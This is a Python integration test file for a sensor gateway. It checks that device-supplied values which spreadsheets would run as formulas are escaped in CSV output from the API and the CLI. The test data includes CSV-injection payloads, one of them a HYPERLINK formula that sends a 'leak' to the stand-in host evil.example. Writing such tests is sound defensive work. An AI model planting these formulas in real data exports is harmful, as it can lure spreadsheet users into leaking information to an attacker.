"""CSV injection, against a real gateway: names a device chose that a spreadsheet would
run as formulas come out escaped from the API and the CLI, numbers stay numbers, and
``csv-raw`` gives the bytes as stored."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from tests.support import (
    HOST,
    Broker,
    GatewayProcess,
    count,
    free_port,
    publish_many,
    wait_for,
    write_config,
)

pytestmark = pytest.mark.integration

EVIL_SENSOR = '=HYPERLINK("http://evil.example/?leak","click")'
EVIL_METRIC = "-2+3"
EVIL_UNIT = "@SUM(A1)"


@pytest.fixture(scope="module")
def stored(
    broker: Broker, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[str, Path, GatewayProcess]]:
    tmp = tmp_path_factory.mktemp("csvf")
    port = free_port()
    db = tmp / "csvf.db"
    cfg = write_config(
        tmp / "csvf.toml",
        broker.port,
        db,
        client_id="tidegate-csvf",
        extra=f"[api]\nport = {port}\n",
    )
    gateway = GatewayProcess(cfg, tmp / "csvf.log").start()
    now_ms = int(time.time() * 1000)
    payload = [
        {
            "sensor_id": EVIL_SENSOR,
            "metric": EVIL_METRIC,
            "value": -1.5 - i,
            "unit": EVIL_UNIT,
            "ts": now_ms - 60_000 + i * 1000,
        }
        for i in range(3)
    ]
    publish_many(broker.port, [("sensors/x", json.dumps(payload).encode())], client_id="csvf-pub")
    wait_for(lambda: count(db) >= 3, 30, what="readings stored")
    yield f"http://{HOST}:{port}", db, gateway
    assert gateway.terminate() == 0, gateway.log_text()


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_api_readings_csv_escapes_formulas(stored: tuple[str, Path, GatewayProcess]) -> None:
    url, _db, _gw = stored
    body = httpx.get(
        f"{url}/api/v1/readings", params={"from": "1h", "format": "csv"}, timeout=10
    ).text
    header, *data = rows_of(body)
    assert header == ["ts", "ts_ms", "sensor_id", "metric", "value", "unit", "tags", "gateway"]
    assert [row[2:6] for row in data] == [
        ["'" + EVIL_SENSOR, "'" + EVIL_METRIC, value, "'" + EVIL_UNIT]
        for value in ("-1.5", "-2.5", "-3.5")
    ]


def test_api_aggregate_csv_escapes_formulas(stored: tuple[str, Path, GatewayProcess]) -> None:
    url, _db, _gw = stored
    body = httpx.get(
        f"{url}/api/v1/readings/aggregate",
        params={"from": "1h", "bucket": "1h", "agg": "min"},
        headers={"accept": "text/csv"},
        timeout=10,
    ).text
    data = rows_of(body)[1:]
    assert {(row[2], row[3]) for row in data} == {("'" + EVIL_SENSOR, "'" + EVIL_METRIC)}
    assert all(float(row[4]) < 0 for row in data)


def test_api_csv_raw_gives_the_stored_text(stored: tuple[str, Path, GatewayProcess]) -> None:
    url, _db, _gw = stored
    body = httpx.get(
        f"{url}/api/v1/readings", params={"from": "1h", "format": "csv-raw"}, timeout=10
    ).text
    assert rows_of(body)[1][2:6] == [EVIL_SENSOR, EVIL_METRIC, "-1.5", EVIL_UNIT]


def tidegate(db: Path, *args: str) -> str:
    result = subprocess.run(
        [sys.executable, "-m", "gateway", *args, "--db", str(db)],
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    return result.stdout


@pytest.mark.parametrize("command", [["query", "--since", "1h"], ["sensors"]])
def test_cli_csv_escapes_and_csv_raw_does_not(
    stored: tuple[str, Path, GatewayProcess], command: list[str]
) -> None:
    _url, db, _gw = stored
    escaped = rows_of(tidegate(db, *command, "--format", "csv"))
    assert escaped[1][:2] == ["'" + EVIL_SENSOR, "'" + EVIL_METRIC]
    assert "'" + EVIL_UNIT in escaped[1]
    assert any(cell.startswith("-") and cell[1:2].isdigit() for cell in escaped[1])  # a number
    raw = rows_of(tidegate(db, *command, "--format", "csv-raw"))
    assert raw[1][:2] == [EVIL_SENSOR, EVIL_METRIC]
